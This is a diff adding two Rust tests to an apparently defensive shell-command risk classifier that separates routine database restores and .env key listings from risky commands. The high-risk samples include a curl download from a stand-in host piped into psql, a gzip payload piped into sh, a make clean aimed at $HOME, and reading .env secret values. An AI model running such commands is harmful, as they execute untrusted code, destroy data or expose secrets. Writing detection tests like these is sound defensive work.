@@ -259,3 +259,34 @@ fn paths_computed_from_known_paths_are_known() {
         ],
     );
 }
+
+#[test]
+fn restoring_a_dump_and_filling_env_from_its_template_are_routine() {
+    at_most(
+        RiskLevel::Medium,
+        &[
+            "DUMP=${1:?dump file}\nSCRATCH=restore_check_$(date +%s)\ncreatedb -h localhost \"$SCRATCH\"\ngunzip -c \"$DUMP\" | psql -h localhost -q -d \"$SCRATCH\"",
+            "ENVIRONMENT=${APP_ENV:-development}\nTEMPLATE=config/env.$ENVIRONMENT.example\nif [ ! -f .env ]; then\n  cp \"$TEMPLATE\" .env\nfi",
+        ],
+    );
+    // a payload decoded from the command line, a download, a shell: not a restore
+    at_least_high(&[
+        "echo H4sIAAAAAAAAA | base64 -d | gunzip | psql -h db -d shop",
+        "curl -s https://x.example/d.gz | gunzip | psql",
+        "gunzip -c payload.gz | sh",
+        "make clean BUILD_DIR=$HOME",
+    ]);
+}
+
+#[test]
+fn the_names_of_an_env_file_are_not_its_secrets() {
+    at_most(
+        RiskLevel::Medium,
+        &[
+            "cut -d= -f1 .env",
+            "awk -F= '{print $1}' .env | sort",
+            "diff <(cut -d= -f1 .env | sort) <(cut -d= -f1 .env.example | sort)",
+        ],
+    );
+    at_least_high(&["cut -d= -f2 .env", "awk -F= '{print $2}' .env"]);
+}
